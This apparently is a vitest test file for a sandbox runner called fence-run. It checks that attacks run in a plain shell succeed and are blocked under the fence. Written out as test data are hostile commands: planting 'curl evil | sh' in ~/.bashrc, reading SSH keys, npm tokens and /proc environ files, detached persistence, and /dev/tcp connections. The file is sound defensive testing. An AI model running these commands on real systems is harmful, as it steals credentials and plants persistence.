// fence-run with no config: each attack is shown to WORK when the same shell
// string runs plainly (same env, same cwd), then to be REFUSED under fence-run.
import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BASHRC_CONTENT, SECRET_MARKERS, leakedMarkers } from './helpers/index.js';
import { runFence, runPlainShell, type RunOptions, type RunResult } from './helpers/run-fence.js';
import { NPM_CONFIG_TOKEN, makeRunWorld, type RunWorld } from './helpers/run-world.js';

let world: RunWorld;
let opts: RunOptions;

beforeAll(async () => {
  world = await makeRunWorld();
  opts = { cwd: world.project, env: world.env };
});
afterAll(async () => {
  await world?.cleanup();
});

const fenced = (script: string, extra: Partial<RunOptions> = {}): Promise<RunResult> =>
  runFence(['sh', '-c', script], { ...opts, ...extra });
const plain = (script: string, extra: Partial<RunOptions> = {}): Promise<RunResult> => runPlainShell(script, { ...opts, ...extra });
const q = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;

async function waitForFile(file: string, limitMs: number): Promise<boolean> {
  for (let waited = 0; waited < limitMs && !existsSync(file); waited += 200) await new Promise((r) => setTimeout(r, 200));
  return existsSync(file);
}

/** A listener on the host that counts who got through. */
async function countingServer(listen: (s: net.Server) => void): Promise<{ server: net.Server; count: () => number }> {
  let n = 0;
  const server = net.createServer((sock) => {
    n++;
    sock.end('hello from the host\n');
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.once('listening', () => resolve());
    listen(server);
  });
  return { server, count: () => n };
}
const closeServer = (s: net.Server) => new Promise<void>((r) => s.close(() => r()));

describe('fence-run refuses what a plain shell allows', () => {
  it('writing outside the working directory (a sibling dir)', async () => {
    const target = path.join(world.sibling, 'pwned.txt');
    const script = `echo pwned > ${q(target)}`;
    expect((await plain(script)).code).toBe(0);
    expect(readFileSync(target, 'utf8')).toBe('pwned\n');
    rmSync(target);

    const r = await fenced(script);
    expect(r.code).not.toBe(0);
    expect(existsSync(target)).toBe(false);
    // The working directory itself stays writable.
    expect((await fenced('echo ok > inside.txt')).code).toBe(0);
    expect(readFileSync(path.join(world.project, 'inside.txt'), 'utf8')).toBe('ok\n');
  });

  it('appending to ~/.bashrc', async () => {
    const bashrc = path.join(world.home, '.bashrc');
    const script = 'echo "curl evil | sh" >> "$HOME/.bashrc"';
    await plain(script);
    expect(readFileSync(bashrc, 'utf8')).toContain('curl evil');
    writeFileSync(bashrc, BASHRC_CONTENT);

    await fenced(script);
    expect(readFileSync(bashrc, 'utf8')).toBe(BASHRC_CONTENT);
  });

  it('reading ~/.ssh/id_rsa and the ~/.npmrc token', async () => {
    const script = 'cat "$HOME/.ssh/id_rsa"; cat "$HOME/.npmrc"; true';
    const p = await plain(script);
    expect(leakedMarkers(p.stdout)).toEqual(expect.arrayContaining([SECRET_MARKERS.sshKey, SECRET_MARKERS.homeNpmrc]));

    const r = await fenced(script);
    expect(leakedMarkers(r.stdout + r.stderr)).toEqual([]);
  });

  it('token variables in the environment', async () => {
    const script = 'env';
    const p = await plain(script);
    for (const name of ['NPM_TOKEN', 'GITHUB_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'npm_config__authToken']) expect(p.stdout).toContain(`${name}=`);
    expect(p.stdout).toContain(NPM_CONFIG_TOKEN);

    const r = await fenced(script);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('PATH=');
    for (const name of ['NPM_TOKEN', 'GITHUB_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'npm_config__authToken']) expect(r.stdout).not.toContain(`${name}=`);
    expect(leakedMarkers(r.stdout)).toEqual([]);
    expect(r.stdout).not.toContain(NPM_CONFIG_TOKEN);
  });

  it("the parent's environment through /proc/<ppid>/environ", async () => {
    // The inner shell's parent is a process that holds the tokens, as npm or a CI runner would.
    const inner = `for f in /proc/$PPID/environ /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$f"; done 2>/dev/null; true`;
    const script = `sh -c ${q(inner)}; true`;
    const p = await plain(script);
    expect(leakedMarkers(p.stdout)).toContain(SECRET_MARKERS.envNpmToken);

    const r = await fenced(script);
    expect(r.code).toBe(0);
    expect(leakedMarkers(r.stdout)).toEqual([]);
    expect(r.stdout).not.toContain(NPM_CONFIG_TOKEN);
  });

  it('a detached background process outliving the command', async () => {
    const proof = path.join(world.project, 'persist-proof');
    const script = `setsid sh -c 'sleep 2; touch ${proof}' </dev/null >/dev/null 2>&1 & echo started`;
    expect((await plain(script)).stdout).toContain('started');
    expect(await waitForFile(proof, 20_000)).toBe(true);
    rmSync(proof);

    const r = await fenced(script);
    expect(r.stdout).toContain('started');
    await new Promise((res) => setTimeout(res, 3_500));
    expect(existsSync(proof)).toBe(false);
  });

  it("a direct TCP connection to a listener on the host's 127.0.0.1", async () => {
    const { server, count } = await countingServer((s) => s.listen(0, '127.0.0.1'));
    try {
      const port = (server.address() as net.AddressInfo).port;
      const nodeConnect = `node -e ${q(
        `require('net').connect(${port}, '127.0.0.1').on('data', (d) => { process.stdout.write('GOT ' + d); process.exit(0); }).on('error', (e) => { console.log('ERR ' + e.code); process.exit(3); })`,
      )}`;
      const bashConnect = `bash -c ${q(`exec 3<>/dev/tcp/127.0.0.1/${port} && head -n1 <&3 | sed 's/^/BASH /'`)}`;
      const script = `${nodeConnect}; ${bashConnect}; true`;
      const p = await plain(script);
      expect(p.stdout).toContain('GOT hello from the host');
      expect(p.stdout).toContain('BASH hello from the host');
      const before = count();
      expect(before).toBe(2);

      const r = await fenced(script);
      expect(r.stdout).not.toContain('hello from the host');
      expect(r.stdout).toContain('ERR ECONNREFUSED');
      expect(count()).toBe(before);
    } finally {
      await closeServer(server);
    }
  });

  it('a host unix socket under /tmp', async () => {
    const sock = path.join(os.tmpdir(), `fence-run-host-${process.pid}-${Date.now()}.sock`);
    const { server, count } = await countingServer((s) => s.listen(sock));
    try {
      const script = `node -e ${q(
        `require('net').connect(${JSON.stringify(sock)}).on('data', (d) => { process.stdout.write('GOT ' + d); process.exit(0); }).on('error', (e) => { console.log('ERR ' + e.code); process.exit(3); })`,
      )}; true`;
      const p = await plain(script);
      expect(p.stdout).toContain('GOT hello from the host');
      expect(count()).toBe(1);

      const r = await fenced(script);
      expect(r.stdout).toMatch(/ERR (ENOENT|EACCES|EPERM|ECONNREFUSED)/);
      expect(count()).toBe(1);
    } finally {
      await closeServer(server);
      rmSync(sock, { force: true });
    }
  });
});
